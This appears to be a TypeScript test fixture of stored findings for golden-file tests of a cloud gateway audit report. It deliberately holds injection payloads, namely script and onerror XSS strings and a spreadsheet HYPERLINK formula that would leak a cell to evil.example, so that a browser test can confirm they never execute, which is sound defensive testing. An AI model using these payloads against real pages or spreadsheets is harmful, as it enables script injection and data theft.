// Fixed stored findings with history for the audit report golden files: muted, resolved, a CRITICAL direct URL,
// unicode, and hostile strings. Its own rule metadata, so catalogue edits never move the golden files.

import type { Finding, HistoryRecord } from '../../src/domain/finding.js';
import { findingIdOf } from '../../src/domain/finding.js';
import { type ReportModel, reportFromFindings } from '../../src/report/report-model.js';
import { defineRule, notApplicable, type Rule } from '../../src/rules/define-rule.js';
import { fullName, PROJECT } from '../support/records.js';

export const REPORT_NOW = new Date('2026-05-04T10:00:00.000Z');

/** Payloads that would change the page if they ever ran: the Chromium test looks for these effects. */
export const HOSTILE = {
  script: "<script>document.title='PWNED'</script>",
  img: "<img src=x onerror=\"document.body.setAttribute('data-pwned','img')\">",
  alertImg: '<img src=x onerror=alert(1)>',
  attribute: '"onmouseover="alert(1)',
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
} as const;

function sampleRule(id: string, title: string, extra: { gcloud?: string; terraform?: string } = {}): Rule {
  return defineRule({
    id,
    title,
    severity: 'HIGH',
    source: 'seed',
    appliesTo: ['gateway'],
    rationale: `Sample rationale for ${id}.`,
    remediation: { summary: `Sample fix for ${id}.`, ...extra },
    references: ['https://cloud.google.com/api-gateway/docs/gateway-load-balancing'],
    evaluate: () => notApplicable('sample'),
  });
}

export const REPORT_RULES: readonly Rule[] = [
  sampleRule(
    'gateway.direct-url-protected',
    'The direct gateway URL cannot be used to bypass the load balancer',
    {
      gcloud: 'gcloud api-gateway gateways update GATEWAY_ID --location=REGION --api-config=CONFIG_ID',
      terraform:
        'resource "google_compute_backend_service" "api" {\n  custom_request_headers = ["x-lb-key: KEY"]\n}',
    },
  ),
  sampleRule('neg.gateway-exists', 'API Gateway NEGs name an existing gateway in their project'),
  sampleRule('backend.one-neg-per-region', 'At most one serverless NEG per region backs a service'),
  sampleRule('backend.cloud-armor-attached', 'Fronting backend services have a Cloud Armor policy', {
    gcloud: 'gcloud compute backend-services update BACKEND_SERVICE --global --security-policy=POLICY',
  }),
  sampleRule('backend.no-port', 'Serverless backend services leave port and portName at their defaults'),
];

const ALICE = 'alice@acme.example';
const TERRAFORM = 'terraform@acme-edge.iam.gserviceaccount.com';

interface SampleFinding {
  readonly finding: Finding;
  readonly history: readonly HistoryRecord[];
}

function storedFinding(
  fields: Pick<Finding, 'ruleId' | 'resource' | 'severity' | 'state' | 'message' | 'evidence'> &
    Partial<Finding>,
): Finding {
  const subKey = fields.subKey ?? null;
  // `//service/projects/P/global/...`, `.../regions/R/...`, `.../locations/L/...`
  const parts = fields.resource.split('/');
  return {
    id: findingIdOf(fields.ruleId, fields.resource, subKey),
    resourceType: fields.resource.includes('apigateway')
      ? 'apigateway.googleapis.com/Gateway'
      : 'compute.googleapis.com/BackendService',
    project: PROJECT,
    location: parts[5] === 'global' ? 'global' : (parts[6] ?? 'global'),
    subKey,
    firstSeenAt: '2026-04-20T08:00:00.000Z',
    lastSeenAt: '2026-05-04T09:00:00.000Z',
    resolvedAt: null,
    reopenCount: 0,
    lastChange: null,
    ...fields,
  };
}

function record(
  transition: HistoryRecord['transition'],
  from: HistoryRecord['from'],
  to: HistoryRecord['to'],
  at: string,
  severity: HistoryRecord['severity'],
  message: string,
  change?: { actor: string | null; method: string },
): HistoryRecord {
  return {
    transition,
    from,
    to,
    severity,
    at,
    message,
    change: change ? { ...change, at, entryId: `entry-${at}` } : null,
  };
}

const LEGACY_GW = fullName('locations/us-central1/gateways/legacy-gw');
const ORDERS_NEG = fullName('regions/europe-west2/networkEndpointGroups/orders-neg-euw2');
const ORDERS_BS = fullName('global/backendServices/orders-bs');
const LEGACY_BS = fullName('global/backendServices/legacy-bs');
const BILLING_BS = fullName('global/backendServices/billing-bs');
const HOSTILE_BS = fullName(`global/backendServices/${HOSTILE.script}`);

const DIRECT_URL_MESSAGE =
  'Gateway legacy-gw answers anyone at https://legacy-gw-3xk2a9bc.uc.gateway.dev, bypassing Cloud Armor.';

export const SAMPLE_FINDINGS: readonly SampleFinding[] = [
  {
    finding: storedFinding({
      ruleId: 'gateway.direct-url-protected',
      resource: LEGACY_GW,
      severity: 'CRITICAL',
      state: 'open',
      message: DIRECT_URL_MESSAGE,
      evidence: {
        directUrl: 'https://legacy-gw-3xk2a9bc.uc.gateway.dev',
        backendServices: [{ backendService: LEGACY_BS, bypassed: ['securityPolicy'] }],
        bypassed: ['securityPolicy'],
        unauthenticated: ['GET /orders', 'POST /orders/{id}:cancel'],
        probe: { ran: false, reason: 'the active probe is off (enable it in the policy file)' },
      },
      firstSeenAt: '2026-04-20T08:00:00.000Z',
      lastChange: {
        actor: 'bob@acme.example',
        method: 'v1.compute.backendServices.setSecurityPolicy',
        at: '2026-04-28T14:30:00.000Z',
        entryId: 'e2',
      },
    }),
    history: [
      // Out of order on purpose: the model sorts by time.
      record(
        'escalated',
        'open',
        'open',
        '2026-04-28T14:30:00.000Z',
        'CRITICAL',
        'Cloud Armor now applies at the load balancer, and the direct URL bypasses it.',
        { actor: 'bob@acme.example', method: 'v1.compute.backendServices.setSecurityPolicy' },
      ),
      record(
        'opened',
        null,
        'open',
        '2026-04-20T08:00:00.000Z',
        'HIGH',
        'Gateway legacy-gw answers anyone.',
        {
          actor: ALICE,
          method: 'google.cloud.apigateway.v1.ApiGatewayService.UpdateGateway',
        },
      ),
    ],
  },
  {
    finding: storedFinding({
      ruleId: 'neg.gateway-exists',
      resource: ORDERS_NEG,
      severity: 'HIGH',
      state: 'resolved',
      message: 'NEG orders-neg-euw2 names gateway orders-gw-euw2, which does not exist in acme-edge.',
      evidence: { lookedFor: 'projects/acme-edge/locations/europe-west2/gateways/orders-gw-euw2' },
      firstSeenAt: '2026-04-22T11:00:00.000Z',
      lastSeenAt: '2026-04-25T06:00:00.000Z',
      resolvedAt: '2026-04-25T06:00:00.000Z',
    }),
    history: [
      record(
        'opened',
        null,
        'open',
        '2026-04-22T11:00:00.000Z',
        'HIGH',
        'NEG orders-neg-euw2 names a gateway that does not exist.',
        {
          actor: TERRAFORM,
          method: 'beta.compute.regionNetworkEndpointGroups.insert',
        },
      ),
      record('resolved', 'open', 'resolved', '2026-04-25T06:00:00.000Z', 'HIGH', 'The gateway exists now.'),
    ],
  },
  {
    finding: storedFinding({
      ruleId: 'backend.one-neg-per-region',
      resource: ORDERS_BS,
      severity: 'HIGH',
      state: 'open',
      subKey: 'us-central1',
      message: 'Two serverless NEGs in us-central1 back orders-bs (Zahlungs-API für Kunden — 東京 ✓).',
      evidence: {
        region: 'us-central1',
        negs: ['orders-neg-usc1', 'orders-neg-usc1-b'],
        note: 'naïve café 🚦',
      },
      firstSeenAt: '2026-04-30T12:00:00.000Z',
    }),
    history: [
      record('opened', null, 'open', '2026-04-30T12:00:00.000Z', 'HIGH', 'Two NEGs in us-central1.', {
        actor: null,
        method: 'v1.compute.backendServices.patch',
      }),
    ],
  },
  {
    finding: storedFinding({
      ruleId: 'backend.one-neg-per-region',
      resource: HOSTILE_BS,
      severity: 'HIGH',
      state: 'open',
      subKey: `${HOSTILE.attribute} @SUM(1)`,
      message: `${HOSTILE.formula} ${HOSTILE.img} ${HOSTILE.alertImg} | pipe *bold* [link](https://evil.example) www.evil.example`,
      evidence: {
        description: `${HOSTILE.script}${HOSTILE.img}`,
        directUrl: `https://evil.example/"><script>document.title='PWNED'</script>`,
        attribute: HOSTILE.attribute,
        fence: '```\n</details>\n<details open>',
      },
      firstSeenAt: '2026-05-01T00:00:00.000Z',
    }),
    history: [],
  },
  {
    finding: storedFinding({
      ruleId: 'backend.cloud-armor-attached',
      resource: LEGACY_BS,
      severity: 'MEDIUM',
      state: 'muted',
      message: 'backend service legacy-bs (acme-edge, global) has no Cloud Armor policy.',
      evidence: { securityPolicy: null },
      firstSeenAt: '2026-04-01T09:00:00.000Z',
      exemption: {
        reason: 'legacy API retires in June (CHG-1142)',
        expires: '2026-05-20',
        owner: 'platform-team@acme.example',
      },
    }),
    history: [
      record('opened', null, 'open', '2026-04-01T09:00:00.000Z', 'MEDIUM', 'No Cloud Armor policy.', {
        actor: TERRAFORM,
        method: 'v1.compute.backendServices.insert',
      }),
      record('muted', 'open', 'muted', '2026-04-02T09:00:00.000Z', 'MEDIUM', 'Exempt until 2026-05-20.'),
    ],
  },
  {
    finding: storedFinding({
      ruleId: 'backend.cloud-armor-attached',
      resource: BILLING_BS,
      severity: 'MEDIUM',
      state: 'muted',
      message: 'backend service billing-bs (acme-edge, global) has no Cloud Armor policy.',
      evidence: { securityPolicy: null },
      firstSeenAt: '2026-04-10T09:00:00.000Z',
      exemption: {
        reason: `${HOSTILE.formula} ${HOSTILE.script}`,
        expires: '2026-09-30',
        owner: HOSTILE.attribute,
      },
    }),
    history: [],
  },
  {
    finding: storedFinding({
      ruleId: 'backend.no-port',
      resource: ORDERS_BS,
      severity: 'LOW',
      state: 'open',
      message: '-1+1 backend service orders-bs sets port 8443; serverless NEGs ignore it.',
      evidence: { port: 8443, portName: 'https' },
      firstSeenAt: '2026-04-30T12:00:00.000Z',
    }),
    history: [],
  },
];

export function sampleModel(): ReportModel {
  return reportFromFindings(
    SAMPLE_FINDINGS.map((sample) => sample.finding),
    new Map(SAMPLE_FINDINGS.map((sample) => [sample.finding.id, sample.history])),
    { rules: REPORT_RULES, now: REPORT_NOW, source: 'Firestore findings, project acme-edge' },
  );
}
